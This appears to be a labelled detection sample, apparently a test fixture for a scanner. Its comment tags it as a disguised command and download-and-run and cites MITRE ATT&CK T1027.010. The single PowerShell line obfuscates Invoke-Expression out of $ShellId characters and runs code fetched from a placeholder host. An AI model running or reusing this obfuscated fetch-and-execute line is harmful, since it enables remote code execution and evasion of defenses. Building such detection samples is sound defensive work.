# expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
&( $ShellId[1] + $ShellId[13] + 'x') (irm http://files.example.invalid/stage)
